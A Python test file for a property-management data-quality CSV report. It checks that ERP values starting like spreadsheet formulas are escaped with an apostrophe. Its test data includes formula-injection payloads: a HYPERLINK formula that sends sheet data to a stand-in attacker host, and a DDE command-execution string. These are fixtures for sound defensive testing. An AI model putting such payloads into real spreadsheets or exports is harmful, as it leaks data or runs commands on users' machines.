"""The data-quality report (`--findings FILE`) as the property manager opens it: what Excel shows
and what it must never do with a value from the ERP (run it as a formula)."""
from __future__ import annotations

import csv

from engine.findings import Finding
from engine.findings_report import write_findings_csv

HOSTILE = {                          # ERP key -> what the report's cell must hold
    '=HYPERLINK("http://evil.example/?"&A1,"Details")': '\'=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "+49 30 1234567": "'+49 30 1234567",
    "-5": "'-5",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "0012": "0012",                   # harmless: kept as it is
    "a=b": "a=b",
}


def hostile_findings() -> list[Finding]:
    return [Finding("invalid_record", "users", key, "country 'DEU' is not an ISO 3166-1 alpha-2 code", "country")
            for key in HOSTILE] + [
        Finding("rejected", "users", "1000019", "=cmd|' /C calc'!A0", None)]


def read_csv(path, delimiter: str = ",") -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh, delimiter=delimiter))


def test_a_csv_cell_that_starts_like_a_formula_gets_an_apostrophe_and_the_rest_stays_as_it_was(tmp_path):
    """Excel runs a CSV cell that starts with = + - @ (or a tab or carriage return before them) as
    a formula: a hostile ERP value could open a link with the sheet's data in it. Such a cell is
    written with a leading apostrophe, which Excel shows; every other cell is unchanged."""
    report = tmp_path / "findings.csv"
    write_findings_csv(hostile_findings(), report)
    rows = read_csv(report)
    assert [r["erp_key"] for r in rows] == [*HOSTILE.values(), "1000019"]
    assert rows[-1]["message"] == "'=cmd|' /C calc'!A0"
    assert {r["message"] for r in rows[:-1]} == {"country 'DEU' is not an ISO 3166-1 alpha-2 code"}
    assert {r["what_to_fix"] for r in rows[:-1]} == {"correct the named field in the ERP"}


def test_a_lone_surrogate_in_a_finding_is_written_as_its_escape(tmp_path):
    """An API source's JSON '\\ud800' reaches a finding's key or message (the portal refuses the
    record): the report shows it as \\ud800 instead of failing after the run."""
    report = tmp_path / "findings.csv"
    write_findings_csv([Finding("rejected", "users", "K\ud800-1", "400 invalid: last_name is not UTF-8")], report)
    [r] = read_csv(report)
    assert r["erp_key"] == "K\\ud800-1"
